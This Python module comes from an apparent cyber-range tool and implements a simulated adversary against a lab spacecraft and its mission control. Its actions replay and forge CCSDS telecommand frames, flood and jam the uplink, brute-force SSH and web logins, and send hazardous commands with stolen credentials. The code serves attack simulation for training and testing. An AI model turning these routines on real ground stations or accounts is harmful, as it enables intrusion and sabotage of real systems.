"""The adversary's actions: one function each, ``action(args, ctx) -> Result``.

An action does what a real adversary on the instance's rf and corp networks can do, and
reports what it can observe itself: ``success`` is True or False when the adversary can
tell (a password found, mission control accepting a command with HTTP 201) and None when
only the spacecraft's ground truth can (a replayed or forged frame). ``outcome`` is "done"
when the action was carried out, "failed" when it could not be (nothing heard to replay,
a host unreachable). Every loop is bounded by a count or a deadline.
"""

from __future__ import annotations

import json
import socket
import time
import urllib.error
import urllib.request
from collections.abc import Callable
from typing import Any, Final

from labctl.errors import LabctlError
from labctl.protocols.pus import PusTc
from labctl.protocols.tc_frame import Bypass, TcFrame, segment, set_vr_frame
from labctl.range.adversary import air
from labctl.range.adversary.action import (
    Action,
    Context,
    Result,
    action_of,
    done,
    failed,
)
from labctl.range.hosts.catalog import PLATFORM_APID
from labctl.spec import builtin_vocabulary as vocab
from labctl.spec.params import wordlist
from labctl.spec.vocabulary import Args

MODULUS: Final = 256
MAX_HTTP_BODY: Final = 64 * 1024
#: Octets of random payload in a flood frame, and in a jamming burst.
FLOOD_PAYLOAD: Final = (8, 64)
JAM_BURST: Final = (32, 256)
#: Plaintext SDLS baseline: a 4-octet sequence number after the SPI.
CLEAR_SN_OCTETS: Final = 4


def now_ms() -> float:
    """Unix seconds, truncated to the millisecond (never later than the moment itself)."""
    return int(time.time() * 1000) / 1000


def frame_facts(frame: TcFrame, spi: int | None, sn: int | None, sent: float) -> dict[str, Any]:
    """What the log says of a frame sent: its SDLS SPI and sequence number (None when it
    has none), N(S), VCID, and when it was sent (Unix seconds)."""
    return {"spi": spi, "sn": sn, "frame_seq": frame.seq, "vcid": frame.vcid, "sent": sent}


# -- radio ---------------------------------------------------------------------------------
class ReplayTelecommandsAction(Action[vocab.ReplayTelecommands]):
    name = "replay_telecommands"
    Args = vocab.ReplayTelecommands

    def run(self, args: vocab.ReplayTelecommands, ctx: Context) -> Result:
        """Capture ``count`` AD frames off the uplink air, then replay each in sequence."""
        t = ctx.targets
        heard = air.capture_ad(
            t.uplink_air, args.count, ctx.listen_timeout, t.listen, ignore=ctx.own.__contains__
        )
        if not heard:
            return failed(f"no uplink AD frame heard within {ctx.listen_timeout:g} s", frames=[])
        ctx.link = (heard[0].frame.scid, heard[0].frame.vcid)
        if args.delay:
            ctx.sleep(args.delay)
        frames = []
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            for item in heard:
                frame = item.frame
                after = (frame.seq + 1) % MODULUS
                _send(sock, ctx, set_vr_frame(frame.scid, frame.vcid, frame.seq).encode())
                sent = now_ms()
                _send(sock, ctx, item.raw)
                _send(sock, ctx, set_vr_frame(frame.scid, frame.vcid, after).encode())
                frames.append(frame_facts(frame, *air.sdls_facts(frame), sent))
        missing = args.count - len(heard)
        short = f" ({missing} fewer than asked: no more heard)" if missing else ""
        return done(f"replayed {len(heard)} uplink frame(s){short}", None, frames=frames)


class InjectFramesAction(Action[vocab.InjectFrames]):
    name = "inject_frames"
    Args = vocab.InjectFrames

    def run(self, args: vocab.InjectFrames, ctx: Context) -> Result:
        """Forge one TC (service, subtype, app data) as a rogue ground station."""
        link = _link(ctx)
        if link is None:
            return failed(
                f"no frame heard within {ctx.listen_timeout:g} s: SCID unknown", frames=[]
            )
        scid, vcid = link
        packet = PusTc(PLATFORM_APID, args.service, args.subtype, bytes.fromhex(args.app_data))
        sn: int | None = None
        header = b""
        if args.spi is not None:
            sn = int(time.time()) & ((1 << (8 * CLEAR_SN_OCTETS)) - 1)
            header = args.spi.to_bytes(2, "big") + sn.to_bytes(CLEAR_SN_OCTETS, "big")
        data = segment(0, header + packet.encode())
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            if args.bypass:
                frame = TcFrame(scid, vcid, data, 0, Bypass.TYPE_B)
            else:
                seq = ctx.rng.randrange(MODULUS)
                frame = TcFrame(scid, vcid, data, seq, Bypass.TYPE_A)
                _send(sock, ctx, set_vr_frame(scid, vcid, seq).encode())
            sent = now_ms()
            _send(sock, ctx, frame.encode())
        kind = "BD" if args.bypass else "AD"
        what = f"PUS {args.service}.{args.subtype} in a forged {kind} frame (SCID {scid})"
        facts = frame_facts(frame, args.spi, sn, sent)
        return done(f"transmitted {what}", None, frames=[facts], scid=scid)


class FloodAction(Action[vocab.Flood]):
    name = "flood"
    Args = vocab.Flood

    def run(self, args: vocab.Flood, ctx: Context) -> Result:
        """Valid-looking AD frames (random N(S), garbage data) at ``rate`` for ``duration``."""
        if ctx.link is None:
            ctx.link = air.learn_link(
                ctx.targets.uplink_air, ctx.targets.downlink_air, min(3.0, ctx.listen_timeout)
            )
        scid, vcid = ctx.link or (ctx.rng.randrange(1024), 0)

        def frame() -> bytes:
            size = ctx.rng.randint(*FLOOD_PAYLOAD)
            garbage = ctx.rng.randbytes(size)
            return TcFrame(scid, vcid, garbage, ctx.rng.randrange(MODULUS)).encode()

        sent, errors = _paced(ctx, args.rate, args.duration, frame)
        if not sent:
            return failed(
                f"no frame could be sent ({errors} send errors)", sent=0, send_errors=errors
            )
        return done(
            f"{sent} frames to {ctx.targets.uplink_in[0]}:{ctx.targets.uplink_in[1]} "
            f"in {args.duration} s",
            None,
            sent=sent,
            send_errors=errors,
            rate=args.rate,
            scid=scid,
        )


class JamAction(Action[vocab.Jam]):
    name = "jam"
    Args = vocab.Jam

    def run(self, args: vocab.Jam, ctx: Context) -> Result:
        """Noise on the uplink: random bursts (never a frame: their FECF does not check) at the
        jamming rate for ``duration`` seconds. Above the rf-link's noise threshold (500 a second
        by default, ``channel.jamming.noise_threshold``) the rf-link jams the uplink: nothing
        else gets through while the noise lasts."""

        def burst() -> bytes:
            return ctx.rng.randbytes(ctx.rng.randint(*JAM_BURST))

        sent, errors = _paced(ctx, ctx.jam_rate, args.duration, burst)
        if not sent:
            return failed(
                f"no noise could be sent ({errors} send errors)", sent=0, send_errors=errors
            )
        return done(
            f"{sent} noise bursts ({ctx.jam_rate}/s) on the uplink for {args.duration} s",
            None,
            sent=sent,
            send_errors=errors,
            rate=ctx.jam_rate,
        )


def _paced(ctx: Context, rate: int, duration: float, make: Callable[[], bytes]) -> tuple[int, int]:
    """Send ``rate`` datagrams per second for ``duration`` seconds (at most rate*duration)."""
    total = int(rate * duration)
    tick = 0.01
    sent = errors = 0
    start = ctx.clock()
    deadline = start + duration + 1.0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        while sent + errors < total and ctx.clock() < deadline:
            owed = min(total, int((ctx.clock() - start) * rate) + 1) - (sent + errors)
            for _ in range(max(owed, 0)):
                try:
                    datagram = make()
                    ctx.own.add(datagram)
                    sock.sendto(datagram, ctx.targets.uplink_in)
                    sent += 1
                except OSError:
                    errors += 1
            ctx.sleep(tick)
    return sent, errors


def _send(sock: socket.socket, ctx: Context, datagram: bytes) -> None:
    ctx.own.add(datagram)
    sock.sendto(datagram, ctx.targets.uplink_in)
    ctx.sleep(ctx.gap)


def _link(ctx: Context) -> tuple[int, int] | None:
    if ctx.link is None:
        t = ctx.targets
        ctx.link = air.learn_link(t.uplink_air, t.downlink_air, ctx.listen_timeout, t.listen)
    return ctx.link


# -- the corporate side --------------------------------------------------------------------
def http_json(
    ctx: Context, method: str, path: str, body: dict[str, Any], token: str | None = None
) -> tuple[int, Any]:
    """One JSON request to mission control: (status, parsed body or None). Raises OSError."""
    headers = {"Content-Type": "application/json"}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    request = urllib.request.Request(
        ctx.targets.mission_control + path, json.dumps(body).encode(), headers, method=method
    )
    try:
        with urllib.request.urlopen(request, timeout=ctx.http_timeout) as reply:
            status, raw = reply.status, reply.read(MAX_HTTP_BODY)
    except urllib.error.HTTPError as exc:
        status, raw = exc.code, exc.read(MAX_HTTP_BODY)
    try:
        return status, json.loads(raw)
    except ValueError:
        return status, None


def mc_login(ctx: Context, username: str, password: str) -> tuple[int, str | None]:
    status, body = http_json(
        ctx, "POST", "/api/login", {"username": username, "password": password}
    )
    token = body.get("token") if status == 200 and isinstance(body, dict) else None
    return status, token if isinstance(token, str) else None


class BruteForceAction(Action[vocab.BruteForce]):
    name = "brute_force"
    Args = vocab.BruteForce

    def run(self, args: vocab.BruteForce, ctx: Context) -> Result:
        """Try the word list against SSH or the mission-control login; stop at the first hit."""
        try:
            words = wordlist(args.wordlist)[: args.max_attempts]
        except LabctlError as exc:
            return failed(str(exc), attempts=0)
        attempt = _ssh_attempt(ctx) if args.target == "ssh" else _mc_attempt(ctx)
        tried = 0
        facts: dict[str, Any] = {"target": args.target, "username": args.username}
        for word in words:
            tried += 1
            try:
                verdict = attempt(args.username, word)
            except (OSError, LabctlError) as exc:
                return failed(
                    f"{args.target} unreachable after {tried - 1} attempts: {exc}",
                    attempts=tried - 1,
                    **facts,
                )
            if verdict is True:
                return done(
                    f"password of {args.username!r} found after {tried} attempt(s)",
                    True,
                    attempts=tried,
                    password=word,
                    **facts,
                )
            if verdict is None:
                return done(
                    f"{args.target} stopped answering logins after {tried} attempt(s)",
                    False,
                    attempts=tried,
                    **facts,
                )
        return done(
            f"no password of {args.username!r} among {tried} tried", False, attempts=tried, **facts
        )


#: One login attempt: True = in, False = refused, None = the target stopped us.
Attempt = Callable[[str, str], bool | None]


def _mc_attempt(ctx: Context) -> Attempt:
    def attempt(username: str, password: str) -> bool | None:
        status, token = mc_login(ctx, username, password)
        if token is not None:
            return True
        return False if status in {401, 403, 422} else None

    return attempt


def _ssh_attempt(ctx: Context) -> Attempt:
    import paramiko  # type: ignore[import-untyped]  # only here: memory, start-up time

    def attempt(username: str, password: str) -> bool | None:
        client = paramiko.SSHClient()
        client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        try:
            client.connect(
                ctx.targets.ssh[0],
                ctx.targets.ssh[1],
                username=username,
                password=password,
                timeout=ctx.ssh_timeout,
                banner_timeout=ctx.ssh_timeout,
                auth_timeout=ctx.ssh_timeout,
                allow_agent=False,
                look_for_keys=False,
            )
        except paramiko.AuthenticationException:
            return False
        except paramiko.SSHException:
            return None
        finally:
            client.close()
        return True

    return attempt


class HazardousCommandAction(Action[vocab.HazardousCommand]):
    name = "hazardous_command"
    Args = vocab.HazardousCommand

    def run(self, args: vocab.HazardousCommand, ctx: Context) -> Result:
        """Log in to mission control with stolen credentials and send the command."""
        try:
            status, token = mc_login(ctx, args.username, args.password)
            if token is None:
                return done(
                    f"login as {args.username!r} refused (HTTP {status})",
                    False,
                    login_status=status,
                    command=args.command,
                )
            body = {"name": args.command, "args": dict(args.command_args)}
            status, reply = http_json(ctx, "POST", "/api/commands", body, token)
        except OSError as exc:
            return failed(f"mission control unreachable: {exc}", command=args.command)
        facts: dict[str, Any] = {"command": args.command, "http_status": status}
        if status == 201 and isinstance(reply, dict):
            facts["command_id"] = reply.get("id") if isinstance(reply.get("id"), int) else None
            return done(f"mission control accepted {args.command} (HTTP 201)", True, **facts)
        if status == 202:  # the two-person rule: held for a second person, not sent
            return done(
                f"mission control held {args.command} for a second person's approval (HTTP 202)",
                False,
                **facts,
            )
        reason = reply.get("detail") if isinstance(reply, dict) else None
        why = f": {str(reason)[:200]}" if reason else ""
        return done(f"mission control refused {args.command} (HTTP {status}){why}", False, **facts)


#: The built-in actions, published as the ``labctl.actions`` entry point ``builtin``.
BUILTIN_ACTIONS: Final[tuple[type[Action[Any]], ...]] = (
    ReplayTelecommandsAction,
    InjectFramesAction,
    FloodAction,
    JamAction,
    BruteForceAction,
    HazardousCommandAction,
)


def run_action(name: str, args: Args, ctx: Context) -> Result:
    """Run one action; whatever goes wrong is a failed outcome, never a crash."""
    action = action_of(name)
    if action is None:
        return failed(f"unknown action {name!r}")
    try:
        return action.run(args, ctx)
    except (OSError, LabctlError, ValueError) as exc:
        return failed(f"{type(exc).__name__}: {exc}"[:500])
